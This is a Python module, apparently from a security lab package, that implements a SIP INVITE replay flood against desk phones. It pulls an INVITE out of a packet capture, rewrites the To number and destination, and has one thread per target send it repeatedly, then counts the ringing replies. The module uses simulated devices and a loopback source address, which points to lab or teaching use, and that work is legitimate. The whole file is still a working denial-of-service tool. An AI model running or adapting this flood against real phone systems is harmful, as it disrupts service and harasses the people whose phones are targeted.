"""INVITE rewrite and replay flood against desk phones."""

from __future__ import annotations

import logging
import re
import socket
import threading
import time
from dataclasses import replace
from typing import Callable

from jacklab.attacklab.errors import NotAnInvite
from jacklab.attacklab.targets import FloodPlan, FloodReport, TargetReport
from jacklab.simdevices.network import Network, send_udp
from jacklab.wirecodec import CaptureRecord, MalformedMessage, mac_bytes, parse_sip
from jacklab.wirecodec.frame import frame_record, transport_checksum

log = logging.getLogger(__name__)

# the To header line and the user part of its first sip: URI
_TO_LINE = re.compile(rb"^(?:To|t)[ \t]*:[^\r\n]*", re.IGNORECASE | re.MULTILINE)
_USER = re.compile(rb"(sip:)([^@;>\s]+)(@)")


def _check_invite(payload: bytes) -> None:
    try:
        msg = parse_sip(payload)
    except MalformedMessage as exc:
        raise NotAnInvite(f"template is not SIP: {exc}") from None
    if not (msg.is_request and msg.method == "INVITE"):
        raise NotAnInvite(f"template is a {msg.label()}, not an INVITE")


def rewrite_to_number(payload: bytes, number: str) -> bytes:
    """Replace the number in the To header, leaving every other byte alone."""
    line = _TO_LINE.search(payload)
    if line is None:
        raise NotAnInvite("template has no To header")
    user = _USER.search(payload, line.start(), line.end())
    if user is None:
        raise NotAnInvite("To header has no sip: URI")
    return payload[:user.start(2)] + number.encode("ascii") + payload[user.end(2):]


def craft_invite_replay(
    template: CaptureRecord,
    new_dst_ip: str,
    new_dst_mac: str | bytes,
    new_to_number: str,
    new_dst_port: int | None = None,
) -> CaptureRecord:
    """The template INVITE re-addressed to another phone.

    Only the destination and the To number change. Transport checksums
    are not stored in a record; :func:`replay_frame` recomputes them.
    """
    _check_invite(template.payload)
    mac = mac_bytes(new_dst_mac) if isinstance(new_dst_mac, str) else bytes(new_dst_mac)
    payload = rewrite_to_number(template.payload, new_to_number)
    port = template.dst[1] if new_dst_port is None else new_dst_port
    return replace(template, dst=(new_dst_ip, port), dst_mac=mac, payload=payload)


def replay_frame(rec: CaptureRecord) -> tuple[bytes, int]:
    """Wire image of ``rec`` with fresh checksums, plus its UDP checksum."""
    return frame_record(rec), transport_checksum(rec)


def extract_invite_template(records) -> CaptureRecord:
    """First INVITE in a capture, the packet an attacker would save."""
    for rec in records:
        if rec.transport != "udp":
            continue
        try:
            _check_invite(rec.payload)
        except NotAnInvite:
            continue
        return rec
    raise NotAnInvite("capture holds no INVITE")


def _count_rings(sock: socket.socket, settle: float) -> int:
    rings = 0
    deadline = time.monotonic() + settle
    while True:
        left = deadline - time.monotonic()
        if left <= 0:
            return rings
        sock.settimeout(left)
        try:
            data, _ = sock.recvfrom(65535)
        except (socket.timeout, OSError):
            return rings
        try:
            if parse_sip(data).status_code == 180:
                rings += 1
        except MalformedMessage:
            pass


def phonejack2(
    plan: FloodPlan,
    template: CaptureRecord,
    network: Network | None = None,
    source_ip: str = "127.0.66.6",
    observe: Callable | None = None,
    settle: float = 0.3,
) -> FloodReport:
    """One worker per target sends its rewritten INVITE ``plan.loops`` times back to back.

    The attacker sends from its own address; rings are counted from the
    180 replies that come back to it. ``observe(target)``, if given,
    supplies each target's final state for the report.
    """
    reports = []
    for t in plan.targets:
        if not t.phone_number:
            raise ValueError(f"target {t.ip} needs a phone number")
        reports.append(TargetReport(t))
    started = time.monotonic()

    def worker(rep: TargetReport) -> None:
        t = rep.target
        rec = craft_invite_replay(template, t.ip, t.mac or "00:00:00:00:00:00", t.phone_number, t.port)
        try:
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.bind((source_ip, 0))
        except OSError as exc:
            log.warning("worker for %s could not open a socket: %s", t.ip, exc)
            rep.errors += plan.loops
            return
        with sock:
            for _ in range(plan.loops):
                rep.attempted += 1
                try:
                    send_udp(network, sock, rec.payload, rec.dst)
                    rep.completed += 1
                except OSError:
                    rep.errors += 1
            rep.rings_observed = _count_rings(sock, settle) if plan.loops else 0

    threads = [threading.Thread(target=worker, args=(r,), daemon=True) for r in reports]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if observe is not None:
        for rep in reports:
            rep.final_state = observe(rep.target)
    return FloodReport(reports, time.monotonic() - started)
